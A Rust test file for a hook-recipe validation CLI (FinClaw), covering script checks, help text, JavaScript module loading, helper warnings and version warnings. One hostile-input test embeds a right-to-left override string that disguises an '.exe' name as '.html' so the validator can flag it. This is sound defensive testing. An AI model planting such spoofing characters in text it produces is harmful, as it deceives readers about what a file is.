#[test]
fn a_script_name_too_long_to_exist_is_missing() {
    let sb = Sandbox::new();
    let long = format!("node scripts/{}.js", "x".repeat(300));
    let mut m = manifest("tool-gate");
    m["hooks"]["PreToolUse"][0]["hooks"][0]["command"] = json!(long);
    write_recipe(&sb, "tool-gate", &m);
    let (code, r) = validate_json(&sb, &["tool-gate"]);
    assert_eq!(code, 1, "{r:#}");
    assert_finding(&r, "/hooks/PreToolUse/0/hooks/0/command", "script-missing");
    write_ts_recipe(&sb, "recipes", "alpha");
    let mut m = manifest("alpha");
    m["hooks"]["PreToolUse"][0]["hooks"][0]["command"] = json!(long);
    sb.write(
        "recipes/alpha/recipe.json",
        serde_json::to_vec_pretty(&m).unwrap(),
    );
    let (code, r) = validate_json(&sb, &["recipes"]);
    assert_eq!(code, 1, "{r:#}");
    assert_finding(&r, "/hooks/PreToolUse/0/hooks/0/command", "script-missing");
}

/// The help of PATH named recipe, catalog and JSON paths only, while validate takes a profile
/// or workspace folder for its `hooks.json` (or `.finclaw/hooks.json`) too, as the README
/// says: the help names them, and each is checked.
#[test]
fn the_help_of_path_names_every_folder_validate_takes() {
    let sb = Sandbox::new();
    let o = sb.cmd().args(["validate", "--help"]).output().unwrap();
    ok(&o);
    let help = String::from_utf8_lossy(&o.stdout);
    assert!(
        help.contains("FinClaw hooks folders")
            && help.contains("profile or")
            && help.contains("workspace folders (their hooks.json or .finclaw/hooks.json)"),
        "{help}"
    );
    let bad = r#"{"hooks": {"PreToolUse": [{"matcher": "(", "hooks": []}]}}"#;
    sb.write("prof/hooks.json", bad);
    sb.write("ws/.finclaw/hooks.json", bad);
    for (folder, file) in [
        ("prof", "prof/hooks.json"),
        ("ws", "ws/.finclaw/hooks.json"),
    ] {
        let o = sb.cmd().args(["validate", folder]).output().unwrap();
        assert_eq!(o.status.code(), Some(1), "{folder}");
        let said =
            String::from_utf8_lossy(&o.stdout).into_owned() + &String::from_utf8_lossy(&o.stderr);
        assert!(
            said.contains(&format!("{file}:1:")) && said.contains("matcher-invalid"),
            "{said}"
        );
    }
}

/// Found by the maintainer-side hostile-input sweep: a recipe's `name` or `summary` with a
/// control character, a bidirectional override or a line separator validated without a
/// word, and pack wrote it into the index as it was, for catalogs and hosts to show
/// reordered or broken. Each is warned of (`text-unsafe`), naming the character and where
/// it is, in an index too; the marks right-to-left text needs (RLM) are not.
#[test]
fn a_name_or_summary_with_characters_that_reorder_or_break_text_is_warned_of() {
    for (field, text, said) in [
        (
            "summary",
            "Gate\u{202E}lmth.exe",
            "the bidirectional control U+202E at character 5",
        ),
        (
            "name",
            "Tool\ngate",
            "the control character U+000A at character 5",
        ),
        (
            "summary",
            "one\u{2028}two",
            "the line separator U+2028 at character 4",
        ),
    ] {
        let sb = Sandbox::new();
        let mut m = manifest("alpha");
        m[field] = json!(text);
        write_recipe(&sb, "alpha", &m);
        let (code, report) = validate_json(&sb, &["alpha"]);
        assert_eq!(code, 0, "{report:#}");
        assert_finding(&report, &format!("/{field}"), "text-unsafe");
        let found = report.to_string();
        assert!(
            found.contains(&format!("`{field}` holds {said}")),
            "{found}"
        );
        let (code, _) = validate_json(&sb, &["--strict", "alpha"]);
        assert_eq!(code, 1, "{field}");
    }
    let sb = Sandbox::new();
    let mut m = manifest("alpha");
    m["summary"] = json!("\u{5d1}\u{5d3}\u{5d9}\u{5e7}\u{5d4} git push\u{200F}.");
    write_recipe(&sb, "alpha", &m);
    let (code, report) = validate_json(&sb, &["--strict", "alpha"]);
    assert_eq!(code, 0, "{report:#}");
    // In an index, as a hand-edited one may hold them.
    let sb = Sandbox::new();
    write_recipe(&sb, "src/alpha", &manifest("alpha"));
    ok(&sb
        .cmd()
        .args(["pack", "--recipes-dir", "src", "--out-dir", "cat"])
        .output()
        .unwrap());
    let path = sb.join("cat/hooks-index.json");
    let mut index: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    index["recipes"][0]["summary"] = json!("a\u{202E}b");
    sb.write(
        "cat/hooks-index.json",
        serde_json::to_vec_pretty(&index).unwrap(),
    );
    let (code, report) = validate_json(&sb, &["cat/hooks-index.json"]);
    assert_eq!(code, 0, "{report:#}");
    assert_finding(&report, "/recipes/0/summary", "text-unsafe");
}

/// Found by the host-side hostile-input sweep: seeds/004 says recipe ids must not be named
/// after TypeSafe, Jev or other judgment products, but `new typesafe` scaffolded one and
/// `validate` passed it without a word. `new` refuses such an id; `validate` warns of it
/// (an error under `--strict`), so an archive published with one still installs.
#[test]
fn a_recipe_id_named_after_a_judgment_product_is_refused() {
    for (id, product) in [("typesafe", "TypeSafe"), ("mcp-jev-gate", "Jev")] {
        let sb = Sandbox::new();
        write_recipe(&sb, id, &manifest(id));
        let (code, report) = validate_json(&sb, &[id]);
        assert_eq!(code, 0, "{report:#}");
        assert_finding(&report, "/id", "recipe-id-product");
        assert_eq!(validate_json(&sb, &["--strict", id]).0, 1);
        assert!(
            report.to_string().contains(&format!(
                "recipe id `{id}` is named after the judgment product {product}"
            )),
            "{report:#}"
        );
        let o = sb.cmd().args(["new", id, "--dir", "t"]).output().unwrap();
        assert_eq!(o.status.code(), Some(2), "{o:?}");
        assert!(!sb.join("t").exists());
    }
    // A word that only holds the name is no product's name.
    let sb = Sandbox::new();
    write_recipe(&sb, "jevons-gate", &manifest("jevons-gate"));
    assert_eq!(validate_json(&sb, &["jevons-gate"]).0, 0);
}

/// Found by a hostile sweep: a folder named README.md was reported as "the recipe has no
/// README.md", which sends the user looking for a file that is there by name.
#[test]
fn a_readme_that_is_a_folder_is_named_so() {
    let sb = Sandbox::new();
    write_recipe(&sb, "recipes/demo", &manifest("demo"));
    std::fs::remove_file(sb.join("recipes/demo/README.md")).unwrap();
    std::fs::create_dir(sb.join("recipes/demo/README.md")).unwrap();
    let (_, r) = validate_json(&sb, &["recipes/demo"]);
    let d = (r["diagnostics"].as_array().unwrap().iter())
        .find(|d| d["code"] == "readme-missing")
        .unwrap_or_else(|| panic!("{r:#}"));
    assert!(
        d["message"]
            .as_str()
            .unwrap()
            .starts_with("README.md is a folder, where the recipe's README file belongs"),
        "{r:#}"
    );
}

/// Found by a hostile sweep: a hidden case file (`tests/.wip.json`) was warned of as
/// "hidden files and folders are never packed, so this one is left out", which fails
/// `--strict`, though `tests/` is never packed and `test` runs the case. No warning there;
/// a hidden file elsewhere is still warned of.
#[test]
fn a_hidden_case_file_is_not_warned_of_as_left_out() {
    let sb = Sandbox::new();
    write_recipe(&sb, "recipes/demo", &manifest("demo"));
    sb.write(
        "recipes/demo/tests/.wip.json",
        r#"{"name": "wip", "event": "Stop", "payload": {}, "expect": {"decision": "none"}}"#,
    );
    sb.write("recipes/demo/data/.hidden.json", "{}");
    let (_, r) = validate_json(&sb, &["recipes/demo"]);
    let hidden: Vec<String> = findings(&r)
        .into_iter()
        .filter(|(_, c)| c == "hidden-not-packed")
        .map(|(p, _)| p)
        .collect();
    let files: Vec<&str> = (r["diagnostics"].as_array().unwrap().iter())
        .filter(|d| d["code"] == "hidden-not-packed")
        .filter_map(|d| d["file"].as_str())
        .collect();
    assert_eq!(hidden.len(), 1, "{r:#}");
    assert!(files[0].ends_with("data/.hidden.json"), "{r:#}");
}

/// Found by the maintainer-side sweep: in an assembled tree (no `src/`), JavaScript that
/// node cannot load (a syntax error, an import of a file the tree lacks, `require` in an ES
/// module) validated clean, so a handler with `failurePolicy: deny` that crashes on every
/// call (denying every tool) could be published. `validate` now reads an assembled tree's
/// ES modules as node would, at each place; our own recipes, assembled, stay clean, and a
/// CommonJS tree is not read as ES modules.
#[test]
fn an_assembled_tree_s_javascript_is_checked() {
    let sb = Sandbox::new();
    let recipes = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("recipes");
    let o = sb
        .cmd()
        .args(["assemble", "--recipes-dir"])
        .arg(&recipes)
        .args(["--out-dir", "out"])
        .output()
        .unwrap();
    ok(&o);
    let (code, report) = validate_json(&sb, &["out"]);
    assert_eq!(code, 0, "{report:#}");
    assert_eq!(findings(&report), []);

    // Each file's own fault (a file with several kinds is told its first kind).
    let append = |rel: &str, more: &str| -> usize {
        let path = sb.join("out/tool-gate/scripts").join(rel);
        let text = std::fs::read_to_string(&path).unwrap() + more;
        std::fs::write(&path, &text).unwrap();
        text.lines().count()
    };
    let import = append("main.js", "import { x } from \"./absent.js\";\n");
    let syntax = append("rules.js", "export const = 1;\n");
    let require = append("lib/hook.js", "const y = require(\"node:fs\");\n");
    let o = sb
        .cmd()
        .args(["validate", "out/tool-gate"])
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(o.status.code(), Some(1), "{out}");
    for (file, line, says) in [
        ("main.js", import, "absent.js is not in the recipe"),
        ("rules.js", syntax, "Unexpected token"),
        ("lib/hook.js", require, "`require` is CommonJS"),
    ] {
        let at = format!("out/tool-gate/scripts/{file}:{line}:");
        assert!(
            out.lines().any(|l| l.starts_with(&at) && l.contains(says)),
            "{at} {says}: {out}"
        );
    }

    // A CommonJS tree (no `"type": "module"`) is node's to read as such.
    let cjs = write_recipe(&sb, "cjs/demo", &manifest("demo"));
    std::fs::write(
        cjs.join("scripts/main.js"),
        "const fs = require(\"node:fs\");\n",
    )
    .unwrap();
    let (code, report) = validate_json(&sb, &["cjs/demo"]);
    assert_eq!(code, 0, "{report:#}");
}

/// Found by review: `validate` read an assembled tree's modules with assemble's own limits
/// and refusals, so it failed trees node loads: a computed relative `import()`, `#`
/// specifiers mapped by the package.json's `"imports"`, a `data:` module and a module
/// over the compiler's 1 MiB. Those validate clean now, and node runs the tree; what node
/// cannot load (an unmapped `#`, a `file:` URL, which names an absolute path) is still told
/// at its place.
#[test]
fn modules_node_loads_in_an_assembled_tree_validate_clean() {
    let sb = Sandbox::new();
    let dir = write_recipe(&sb, "out/demo", &manifest("demo"));
    sb.write(
        "out/demo/scripts/package.json",
        r##"{"type": "module", "imports": {"#util": "./lib/util.js", "#h/*": "./handlers/*.js",
            "#sp": "./lib/a%20b.js", "#cond": {"require": "./none.js", "node": "./lib/util.js"},
            "#t/*.js": "./lib/*.js", "#t/*s": "./none/*s",
            "#fs": {"node": {"require": "./none.cjs"}, "default": "fs"}}}"##,
    );
    sb.write("out/demo/scripts/lib/util.js", "export default 7;\n");
    sb.write("out/demo/scripts/lib/a b.js", "export default 8;\n");
    sb.write(
        "out/demo/scripts/handlers/a.js",
        "export const name = \"a\";\n",
    );
    let mut big = String::from("export const data = [\n");
    while big.len() <= 1024 * 1024 {
        big.push_str("  \"a string of forty characters or so...\",\n");
    }
    big.push_str("];\n");
    sb.write("out/demo/scripts/big.js", &big);
    let main = "import util from \"#util\";\n\
                import { name } from \"#h/a\";\n\
                import one from \"data:text/javascript,export default 1\";\n\
                import { data } from \"./big.js\";\n\
                const which = process.env.HANDLER ?? \"a\";\n\
                const h = await import(`./handlers/${which}.js`);\n\
                const again = await import(\"./handlers/\" + which + \".js\");\n\
                const mapped = await import(`#h/${which}`);\n\
                import sp from \"#sp\";\n\
                import cond from \"#cond\";\n\
                import t from \"#t/util.js\";\n\
                import fs from \"#fs\";\n\
                console.log(util, name, one, data.length > 0, h.name, again.name, mapped.name, sp, cond, t, typeof fs.readFileSync);\n";
    sb.write("out/demo/scripts/main.js", main);
    let (code, report) = validate_json(&sb, &["out/demo"]);
    assert_eq!(code, 0, "{report:#}");
    // Over 1 MiB, big.js is not read, and is said so.
    assert_eq!(
        findings(&report),
        [(String::new(), "module-not-read".into())]
    );
    let node = std::process::Command::new("node")
        .arg("scripts/main.js")
        .current_dir(&dir)
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&node.stdout),
        "7 a 1 true a a a 8 7 7 function\n",
        "{}",
        String::from_utf8_lossy(&node.stderr)
    );

    // What node refuses, each at its line.
    sb.write(
        "out/demo/scripts/main.js",
        "import a from \"#nothing\";\n\
         import b from \"#h/b\";\n\
         import c from \"file:./lib/util.js\";\n\
         import d from \"#h/../lib/util\";\n\
         import e from \"#h/\";\n\
         const f = await import(`#/${process.env.X}`);\n\
         console.log(a, b, c, d, e, f);\n",
    );
    let o = sb.cmd().args(["validate", "out/demo"]).output().unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(o.status.code(), Some(1), "{out}");
    for (line, says) in [
        (1, "it is not among the \"imports\" of"),
        (
            2,
            "maps it to `./handlers/b.js`, which is not in the recipe",
        ),
        (3, "a `file:` URL names an absolute path"),
        (4, "which node refuses (a target may not hold `.`, `..`"),
        (5, "node refuses `#` alone, `#/…` and a name ending in `/`"),
        (6, "node refuses `#` alone, `#/…` and a name ending in `/`"),
    ] {
        let at = format!("out/demo/scripts/main.js:{line}:");
        assert!(
            out.lines().any(|l| l.starts_with(&at) && l.contains(says)),
            "{at} {says}: {out}"
        );
    }
    let node = std::process::Command::new("node")
        .arg("scripts/main.js")
        .current_dir(&dir)
        .output()
        .unwrap();
    assert_ne!(node.status.code(), Some(0), "node loaded it");
}

/// Found by review: a shared helper no recipe imports was never read, so one broken since
/// its last importer went validated clean, to fail the day a recipe imports it again. It is
/// a warning at its place (assemble does not ship it); a broken helper a recipe imports
/// stays an error, told once.
#[test]
fn a_broken_helper_no_recipe_imports_is_warned_of() {
    let sb = Sandbox::new();
    write_ts_recipe(&sb, "recipes", "demo");
    sb.write(
        "recipes/demo/src/main.ts",
        "import { x } from \"../../lib/used.ts\";\nconsole.log(x);\n",
    );
    sb.write("recipes/lib/used.ts", "export const x = 1;\n");
    sb.write("recipes/lib/old/unused.ts", "export const y: = 2;\n");
    sb.write("recipes/lib/unused.test.ts", "this is no test at all\n");
    let (code, r) = validate_json(&sb, &["recipes"]);
    assert_eq!(code, 0, "{r:#}");
    let found: Vec<_> = r["diagnostics"].as_array().unwrap().iter().collect();
    assert_eq!(found.len(), 1, "{r:#}");
    let d = found[0];
    assert_eq!(d["severity"], "warning", "{r:#}");
    assert!(
        d["file"]
            .as_str()
            .unwrap()
            .ends_with("recipes/lib/old/unused.ts"),
        "{r:#}"
    );
    assert_eq!(
        (d["line"].as_u64(), d["column"].as_u64()),
        (Some(1), Some(17))
    );
    assert!(
        d["message"]
            .as_str()
            .unwrap()
            .contains("no recipe imports this helper, so assemble does not ship it"),
        "{r:#}"
    );
    // One saved in Latin-1 is told at its first byte that is not UTF-8 (it was passed
    // over in silence).
    std::fs::write(
        sb.join("recipes/lib/latin1.ts"),
        b"export const s = \"caf\xe9\";\n",
    )
    .unwrap();
    let (code, r) = validate_json(&sb, &["recipes"]);
    assert_eq!(code, 0, "{r:#}");
    let latin1 = diagnostic_in(&r, "recipes/lib/latin1.ts").unwrap_or_else(|| panic!("{r:#}"));
    assert_eq!(latin1["severity"], "warning", "{r:#}");
    assert_eq!(
        (latin1["line"].as_u64(), latin1["column"].as_u64()),
        (Some(1), Some(22))
    );
    let says = latin1["message"].as_str().unwrap();
    assert!(
        says.contains("not UTF-8") && says.contains("no recipe imports this helper"),
        "{says}"
    );
    std::fs::remove_file(sb.join("recipes/lib/latin1.ts")).unwrap();
    // Validating one recipe of the folder, or with one that stopped early, says nothing of
    // it: a recipe not read may import it.
    write_ts_recipe(&sb, "recipes", "other");
    sb.write("recipes/other/src/main.ts", "export const z = ;\n");
    for (args, code) in [(&["recipes/demo"][..], 0), (&["recipes"][..], 1)] {
        let (got, r) = validate_json(&sb, args);
        assert_eq!(got, code, "{args:?}: {r:#}");
        assert!(
            !r.to_string().contains("no recipe imports"),
            "{args:?}: {r:#}"
        );
    }
    std::fs::remove_dir_all(sb.join("recipes/other")).unwrap();
    // Imported, it is the recipe's error, told once.
    sb.write(
        "recipes/demo/src/main.ts",
        "import { y } from \"../../lib/old/unused.ts\";\nconsole.log(y);\n",
    );
    let (code, r) = validate_json(&sb, &["recipes"]);
    assert_eq!(code, 1, "{r:#}");
    let found: Vec<_> = r["diagnostics"].as_array().unwrap().iter().collect();
    let at_helper = |d: &&&Value| d["file"].as_str().unwrap().ends_with("lib/old/unused.ts");
    assert_eq!(found.iter().filter(at_helper).count(), 1, "{r:#}");
    assert!(found.iter().all(|d| d["severity"] == "error"), "{r:#}");
}

/// The summary said "validated 1 path" for a folder of many recipes, which read as if one
/// file had been looked at. It now says what the paths held, and the JSON counts each
/// path's recipes.
#[test]
fn the_summary_counts_the_recipes_and_files_validated() {
    let sb = Sandbox::new();
    write_recipe(&sb, "recipes/one", &manifest("one"));
    write_recipe(&sb, "recipes/two", &manifest("two"));
    write_recipe(&sb, "recipes/three", &manifest("three"));
    sb.write("profile/hooks.json", r#"{"hooks": {}}"#);
    let o = sb
        .cmd()
        .args(["validate", "recipes", "recipes/two", "profile/hooks.json"])
        .output()
        .unwrap();
    ok(&o);
    let all = String::from_utf8_lossy(&o.stderr);
    assert!(
        // `recipes/two` is one of the three in `recipes`: counted once.
        all.contains("validated 3 paths (3 recipes, 1 hooks.json): 0 errors,"),
        "{all}"
    );
    let (code, d) = validate_json(&sb, &["recipes", "profile/hooks.json"]);
    assert_eq!(code, 0, "{d:#}");
    assert_eq!(d["paths"][0]["recipes"], 3, "{d:#}");
    assert_eq!(d["paths"][1]["recipes"], 0, "{d:#}");
}

/// seeds/004: hosts before 0.13.1 pass over an ask, a model route and a Stop reject. A
/// recipe whose cases expect one of those while its min_cli is 0.13.0 is installed on such
/// hosts, where the gate asks nothing and the tool runs; validate said nothing of it.
#[test]
fn cases_that_need_a_newer_cli_than_min_cli_are_warned_of() {
    let sb = Sandbox::new();
    write_recipe(&sb, "asker", &manifest("asker"));
    let case = |decision: &str| {
        format!(
            r#"{{"name": "{decision}s", "event": "PreToolUse", "payload": {{"tool_name": "exec"}},
  "expect": {{"decision": "{decision}"}}}}"#
        )
    };
    sb.write("asker/tests/a.json", case("ask"));
    sb.write("asker/tests/b.json", case("ask"));
    sb.write("asker/tests/c.json", case("deny"));
    let (code, d) = validate_json(&sb, &["asker"]);
    assert_eq!(code, 0, "{d:#}");
    let w = diagnostic_in(&d, "recipe.json").expect("a warning at min_cli");
    assert_eq!(w["code"], "min-cli-too-low", "{d:#}");
    assert_eq!(w["pointer"], "/min_cli", "{d:#}");
    assert_eq!(w["line"], 5, "{d:#}");
    assert_eq!(
        w["message"],
        "min_cli is 0.13.0, but `tests/a.json` expects `ask` (and 1 other case expects an ask, \
         a reject or a route), which CLI versions before 0.13.1 pass over: install puts the \
         recipe on them, where an ask does nothing; set \"min_cli\": \"0.13.1\"",
        "{d:#}"
    );
    assert_eq!(findings(&d).len(), 1, "{d:#}");

    let mut m = manifest("asker");
    m["min_cli"] = "0.13.1".into();
    sb.write("asker/recipe.json", serde_json::to_vec_pretty(&m).unwrap());
    let (_, d) = validate_json(&sb, &["asker"]);
    assert!(findings(&d).is_empty(), "{d:#}");
}
